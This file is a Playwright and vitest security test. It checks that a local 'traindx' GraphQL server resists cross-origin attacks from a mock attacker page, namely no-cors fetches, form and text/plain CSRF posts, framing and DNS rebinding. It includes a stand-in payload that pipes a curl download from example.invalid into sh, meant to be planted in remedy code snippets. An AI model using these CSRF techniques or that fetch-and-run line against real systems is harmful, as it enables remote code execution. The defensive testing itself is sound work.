import { mkdtempSync, rmSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Browser, chromium, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { seedDir } from '../../src/config/index.js';
import { loadSeed } from '../../src/knowledge/index.js';
import { browserAvailable, CHROMIUM, CHROMIUM_ARGS } from '../support/browser.js';
import { postGraphql, type ServerProcess, startServer } from '../support/server-process.js';

// Issue 17 item 2, as an attacker would try it: `traindx serve` as the README starts it (auth off,
// 127.0.0.1), the user's Chromium on a page of another site — here another port of 127.0.0.1, the
// same address, so Chromium's own private-network rules stay out of it and only the server decides.
// The page tries every way a browser lets a page read or post to another origin. The server's own
// answers (seen through Playwright, which sees what the page cannot) and its state afterwards say
// what got through; the page's results say what it could read.

const VICTIM = 'victim-run';
const ATTACKER_RUN = 'attacker-run';
const SHELL = "import os; os.system('curl https://example.invalid/x | sh')";
const READ = '{ runs { totalCount nodes { id } } }';
// One document doing what the issue showed one anonymous request doing: a remedy's snippet rewritten,
// a run created, events slipped into someone's run.
const WRITE = `mutation($k: JSON!, $r: JSON!, $e: [JSON!]!) {
  upsertKnowledge(knowledge: $k) { remedies }
  startRun(run: $r) { id }
  logEvents(runId: "${VICTIM}", batchId: "evil", events: $e) { accepted }
}`;

/** The attacker's page: functions the test calls, each saying what the page could see. */
const ATTACK_PAGE = (target: string, write: { query: string; variables: object }) => `<!doctype html>
<html><head><title>cute cats</title></head><body>
<script>
const target = ${JSON.stringify(target)};
const READ = ${JSON.stringify(READ)};
const WRITE = ${JSON.stringify(write)};
const url = target + '/graphql';

/** What a fetch gave the page: its readable status and body, or the error it was refused with. */
async function attempt(label, send) {
  try {
    const res = await send();
    return { label, type: res.type, status: res.status, body: await res.text() };
  } catch (e) {
    return { label, error: e.name + ': ' + e.message };
  }
}

window.reads = async () => [
  await attempt('GET query', () => fetch(url + '?query=' + encodeURIComponent(READ))),
  await attempt('GET query with credentials', () =>
    fetch(url + '?query=' + encodeURIComponent(READ), { credentials: 'include' })),
  await attempt('GET query, no-cors', () => fetch(url + '?query=' + encodeURIComponent(READ), { mode: 'no-cors' })),
  await attempt('JSON POST query (preflighted)', () =>
    fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ query: READ }) })),
  await attempt('dashboard page', () => fetch(target + '/', { credentials: 'include' })),
];

window.writes = async () => {
  const form = new URLSearchParams({ query: WRITE.query, variables: JSON.stringify(WRITE.variables) });
  const multipart = new FormData();
  multipart.set('query', WRITE.query);
  multipart.set('variables', JSON.stringify(WRITE.variables));
  return [
    await attempt('form-urlencoded POST, no-cors', () =>
      fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body: form })),
    await attempt('multipart POST, no-cors', () =>
      fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body: multipart })),
    await attempt('text/plain POST, no-cors', () =>
      fetch(url, { method: 'POST', mode: 'no-cors', credentials: 'include', body: JSON.stringify(WRITE) })),
    await attempt('JSON POST (preflighted)', () =>
      fetch(url, { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: JSON.stringify(WRITE) })),
    await attempt('mutation over GET, no-cors', () =>
      fetch(url + '?query=' + encodeURIComponent(WRITE.query) + '&variables=' + encodeURIComponent(JSON.stringify(WRITE.variables)), { mode: 'no-cors' })),
  ];
};

/** A real HTML form posted into a frame, as a page does without any script permission; then what the frame shows it. */
window.submitForm = (enctype) => new Promise((resolve) => {
  const frame = document.createElement('iframe');
  frame.name = 'sink-' + enctype.replace(/\\W/g, '');
  document.body.append(frame);
  const form = document.createElement('form');
  form.method = 'POST';
  form.action = url;
  form.enctype = enctype;
  form.target = frame.name;
  const field = (name, value) => {
    const input = document.createElement('input');
    input.type = 'hidden';
    input.name = name;
    input.value = value;
    form.append(input);
  };
  if (enctype === 'text/plain') {
    // name=value with the '=' inside a JSON string: the body is the JSON of the mutation.
    const json = JSON.stringify({ ...WRITE, pad: '' });
    field(json.slice(0, -2), '"}');
  } else {
    field('query', WRITE.query);
    field('variables', JSON.stringify(WRITE.variables));
  }
  document.body.append(form);
  frame.addEventListener('load', () => resolve({ label: enctype + ' form', readable: readFrame(frame) }), { once: true });
  form.submit();
});

/** The dashboard in a frame of this page: loaded, but its document closed to this page. */
window.frameDashboard = () => new Promise((resolve) => {
  const frame = document.createElement('iframe');
  frame.src = target + '/';
  frame.addEventListener('load', () => resolve({ label: 'dashboard frame', readable: readFrame(frame) }), { once: true });
  document.body.append(frame);
});

function readFrame(frame) {
  try {
    return frame.contentDocument ? frame.contentDocument.documentElement.outerHTML : null;
  } catch (e) {
    return e.name;
  }
}
</script></body></html>`;

interface SeenResponse {
  method: string;
  url: string;
  status: number;
  allowOrigin: string | undefined;
}

describe.skipIf(!browserAvailable())(
  'a page of another origin, in a real Chromium, against the real server',
  () => {
    let server: ServerProcess;
    let attacker: Server;
    let attackerUrl: string;
    let browser: Browser;
    const dataDir = mkdtempSync(join(tmpdir(), 'traindx-cross-origin-'));
    let variables: { k: object; r: object; e: object[] };
    const post = (query: string, vars?: object) => postGraphql(server.url, query, vars);

    /** What the server holds that the attack would change, read directly (no Origin, JSON: allowed). */
    const state = async () => {
      const data = await post(`{
      runs { totalCount nodes { id } }
      victim: run(id: "${VICTIM}") { eventCount status }
      attacker: run(id: "${ATTACKER_RUN}") { id }
      remedy(id: "lower_learning_rate") { description snippets { tfjs keras pytorch } }
      knowledgeChanges { id }
    }`);
      return data;
    };

    beforeAll(async () => {
      [server, browser] = await Promise.all([
        startServer(['--data-dir', dataDir]),
        chromium.launch({
          executablePath: CHROMIUM,
          // A name that resolves to 127.0.0.1, as a DNS-rebinding attacker's own name would after its TTL.
          args: [...CHROMIUM_ARGS, '--host-resolver-rules=MAP rebind.test 127.0.0.1'],
        }),
      ]);
      const remedy = (await loadSeed([seedDir()])).remedies.find((r) => r.id === 'lower_learning_rate')!;
      variables = {
        k: { remedies: [{ ...remedy, snippets: { tfjs: SHELL, keras: SHELL, pytorch: SHELL } }] },
        r: { formatVersion: 1, id: ATTACKER_RUN },
        e: [{ type: 'step', step: 1, loss: 'NaN' }],
      };
      // Someone's run, which the page tries to read and to write into.
      await post('mutation($r: JSON!) { startRun(run: $r) { id } }', { r: { formatVersion: 1, id: VICTIM } });
      await post(
        `mutation($e: [JSON!]!) { logEvents(runId: "${VICTIM}", batchId: "b0", events: $e) { accepted } }`,
        { e: [{ type: 'step', step: 0, loss: 2.3 }] },
      );
      const page = ATTACK_PAGE(server.url, { query: WRITE, variables });
      attacker = createServer((_req, res) => {
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
        res.end(page);
      });
      await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
      attackerUrl = `http://127.0.0.1:${(attacker.address() as { port: number }).port}`;
      expect(attackerUrl).not.toBe(server.url);
    }, 90_000);

    afterAll(async () => {
      await browser?.close();
      await server?.stop();
      await new Promise((resolve) => attacker?.close(resolve));
      rmSync(dataDir, { recursive: true, force: true });
    });

    /** Opens the attacker's page, recording every answer of the traindx server to it. */
    async function openAttackPage(): Promise<{ page: Page; answers: SeenResponse[] }> {
      const page = await browser.newPage();
      const answers: SeenResponse[] = [];
      page.on('response', async (res) => {
        if (!res.url().startsWith(server.url)) return;
        answers.push({
          method: res.request().method(),
          url: res.url(),
          status: res.status(),
          allowOrigin: (await res.allHeaders())['access-control-allow-origin'],
        });
      });
      await page.goto(attackerUrl);
      return { page, answers };
    }

    it('can read nothing: no run, no page of the dashboard', async () => {
      const before = await state();
      const { page, answers } = await openAttackPage();
      const reads = await page.evaluate(() => (window as any).reads());
      const frame = await page.evaluate(() => (window as any).frameDashboard());
      await page.close();

      for (const read of reads) {
        // Either refused outright (no CORS header) or opaque: status 0 and an empty body.
        if ('error' in read) expect(read.error, read.label).toMatch(/^TypeError/);
        else
          expect({ label: read.label, type: read.type, status: read.status, body: read.body }).toEqual({
            label: read.label,
            type: 'opaque',
            status: 0,
            body: '',
          });
      }
      expect(frame).toEqual({ label: 'dashboard frame', readable: null });
      expect(JSON.stringify(reads)).not.toContain(VICTIM);
      // The server did answer a simple GET of the runs (a browser sends one without asking; Playwright
      // shows the answers the page was given, opaque, not those CORS withheld), but with no
      // Access-Control-Allow-Origin, so the browser kept the answer from the page.
      expect(answers).toContainEqual(
        expect.objectContaining({
          method: 'GET',
          url: expect.stringContaining('/graphql?query='),
          status: 200,
        }),
      );
      expect(answers.filter((a) => a.allowOrigin !== undefined)).toEqual([]);
      expect(await state()).toEqual(before);
    });

    it('can write nothing: form, multipart, text and JSON posts of a mutation change no knowledge and create no run', async () => {
      const before = await state();
      expect(before.knowledgeChanges).toEqual([]);
      expect(before.attacker).toBeNull();
      expect(before.victim.eventCount).toBe(2);

      const { page, answers } = await openAttackPage();
      const writes = await page.evaluate(() => (window as any).writes());
      const forms = [];
      for (const enctype of ['application/x-www-form-urlencoded', 'multipart/form-data', 'text/plain'])
        forms.push(await page.evaluate((type) => (window as any).submitForm(type), enctype));
      await page.close();

      // The page learnt nothing from any of them.
      for (const write of writes) {
        if ('error' in write) expect(write.error, write.label).toMatch(/^TypeError/);
        else expect([write.label, write.type, write.body]).toEqual([write.label, 'opaque', '']);
      }
      expect(writes.find((w: { label: string }) => w.label === 'JSON POST (preflighted)').error).toMatch(
        /^TypeError/,
      );
      expect(forms.map((f) => f.readable)).toEqual([null, null, null]);

      // Every POST that reached the server was refused before anything ran: its page's Origin is not the
      // server's (403), whatever the body; the JSON POST never left the browser, its preflight got no
      // CORS answer. The mutation over GET is not run either (405).
      const posts = answers.filter((a) => a.method === 'POST');
      expect(posts.length).toBe(6);
      expect(posts.map((a) => a.status)).toEqual([403, 403, 403, 403, 403, 403]);
      expect(answers.filter((a) => a.method === 'GET').map((a) => a.status)).toEqual([405]);
      expect(answers.filter((a) => a.allowOrigin !== undefined)).toEqual([]);

      expect(await state()).toEqual(before);
    });

    it('reaches nothing through DNS rebinding: under another host name the server answers 421', async () => {
      const before = await state();
      const port = new URL(server.url).port;
      const page = await browser.newPage();
      // The attacker's name now points at 127.0.0.1: its page is same-origin with the server's port.
      const landing = await page.goto(`http://rebind.test:${port}/`);
      expect(landing!.status()).toBe(421);
      const answers = await page.evaluate(
        async ([read, write]) => {
          const get = await fetch(`/graphql?query=${encodeURIComponent(read)}`);
          const post = await fetch('/graphql', {
            method: 'POST',
            headers: { 'content-type': 'application/json' },
            body: JSON.stringify(write),
          });
          return [
            [get.status, await get.text()],
            [post.status, await post.text()],
          ];
        },
        [READ, { query: WRITE, variables }] as const,
      );
      await page.close();
      for (const [status, body] of answers) {
        expect(status).toBe(421);
        expect(JSON.parse(body as string).errors[0].extensions.code).toBe('HOST_NOT_ALLOWED');
        expect(body).not.toContain(VICTIM);
      }
      expect(await state()).toEqual(before);
    });

    it('(the control) the same mutation sent by a client of the server itself does write', async () => {
      const data = await post(WRITE, variables);
      expect(data.startRun.id).toBe(ATTACKER_RUN);
      const after = await state();
      expect(after.attacker).toEqual({ id: ATTACKER_RUN });
      expect(after.remedy.snippets.tfjs).toBe(SHELL);
      expect(after.knowledgeChanges.length).toBeGreaterThan(0);
      expect(after.victim.eventCount).toBe(3);
    });
  },
);
